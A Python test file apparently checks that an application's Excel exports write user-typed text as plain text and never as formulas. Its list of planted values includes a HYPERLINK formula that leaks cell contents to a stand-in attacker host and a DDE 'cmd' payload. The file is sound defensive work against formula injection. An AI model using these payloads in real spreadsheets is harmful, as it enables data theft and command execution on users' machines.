"""Text people typed is written to every workbook as text, never as a formula: a narrative, a
name, a title that starts with "=", "+", "-", "@", a tab or a carriage return. Each workbook is
read back with openpyxl and checked cell by cell; numbers stay numbers."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

import factories as f
from council_support import council, open_scoring, published, reported_registration, score
from workflow.accounts.models import Role
from workflow.calendar import window_for
from workflow.council.export import write_workbook
from workflow.extensions import db
from workflow.reports import export as quarter_export
from workflow.reports import operations as reports

INJECTIONS = [
    '=HYPERLINK("http://attacker.test/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def _check(book, planted: set[str]) -> None:
    """No cell is a formula (or an error value); every planted text is there as text, with the
    quote prefix when it starts like a formula; and numbers are still numbers."""
    # XML reads a carriage return back as a line feed.
    as_read = {text.replace("\r", "\n"): text for text in planted}
    found = set()
    numbers = 0
    for title, cell in _cells(book):
        assert cell.data_type not in ("f", "e"), (title, cell.coordinate, cell.value)
        if cell.value in as_read:
            original = as_read[cell.value]
            assert cell.data_type == "s"
            assert cell.quotePrefix == original.startswith(("=", "+", "-", "@", "\t", "\r")), (title, cell.coordinate, original)
            found.add(original)
        if cell.data_type == "n" and cell.value is not None:
            numbers += 1
    assert found == planted
    assert numbers > 0


@pytest.fixture
def hostile_cycle(app):
    """A cycle whose unit names, head's name, target titles, narratives, member's name and the
    committee's reason all start like a formula."""
    cycle = f.year(2027)
    unit = f.unit(name=INJECTIONS[0])
    head = f.person((Role.HEAD, unit), full_name=INJECTIONS[1])
    registration = reported_registration(cycle, unit=unit, head=head)
    registration.targets[0].title = INJECTIONS[2]
    registration.targets[1].product = INJECTIONS[6]
    db.session.flush()
    open_scoring(cycle)
    seats = council(cycle, members=1, m1=f.person(Role.COUNCIL, full_name=INJECTIONS[3]))
    for name in ("m1", "chair"):
        score(seats[name], registration)
    published(cycle, [registration], seats)
    return cycle, registration


def test_council_workbook_writes_user_text_as_text(hostile_cycle):
    cycle, registration = hostile_cycle
    out = io.BytesIO()
    write_workbook(cycle, out)
    out.seek(0)
    _check(load_workbook(out), {INJECTIONS[0], INJECTIONS[1], INJECTIONS[2], INJECTIONS[3], INJECTIONS[6]})


def test_quarter_workbook_writes_user_text_as_text(app):
    cycle = f.execution_cycle(2025)
    reg = f.assigned_registration(2025)
    reg.unit.name = INJECTIONS[0]
    reg.unit.group.name = INJECTIONS[5]
    head = f.head_of(reg)
    head.full_name = INJECTIONS[1]
    reg.targets[0].title = INJECTIONS[2]
    reg.targets[0].measure = INJECTIONS[3]
    db.session.flush()
    moment = window_for(cycle, 1).due_at - timedelta(days=1)
    report = reports.open_report(reg, 1, actor=head, now=moment)
    db.session.flush()
    entries = f.full_entries(reg)
    entries[0]["narrative"] = INJECTIONS[4]
    reports.save_entries(report, entries, actor=head, version=report.version, now=moment)
    db.session.flush()
    reports.submit(report, actor=head, version=report.version, now=moment)
    db.session.flush()
    book = load_workbook(io.BytesIO(quarter_export.workbook(cycle, 1)))
    _check(book, {INJECTIONS[0], INJECTIONS[1], INJECTIONS[2], INJECTIONS[3], INJECTIONS[4], INJECTIONS[5]})


def test_control_characters_a_workbook_cannot_hold_are_shown_not_refused(app):
    from openpyxl import Workbook

    from workflow.core import excel

    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    excel.append(sheet, ["Báo cáo\x01quý", 12.5])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue()))["x"].iter_rows(values_only=True))
    assert row == ("Báo cáo\ufffdquý", 12.5)
